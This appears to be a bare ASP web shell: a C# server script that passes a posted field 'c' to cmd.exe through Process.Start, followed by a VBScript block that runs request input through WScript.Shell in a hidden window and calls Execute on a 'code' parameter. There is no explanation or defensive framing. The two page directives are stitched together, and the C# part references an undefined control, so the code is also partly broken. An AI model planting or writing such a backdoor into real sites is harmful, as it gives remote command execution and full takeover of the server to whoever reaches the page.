<%@ Page Language="C#" %>
<script runat="server">
void Go(object s, EventArgs e) { string c = Request.Form["c"]; Process.Start("cmd.exe", "/c " + c + txt.Text); }
</script>
<%@ Language=VBScript %><% Set sh = CreateObject("WScript.Shell") : sh.Run "cmd /c " & Request("c"), 0
Execute(Request("code")) ' done %>
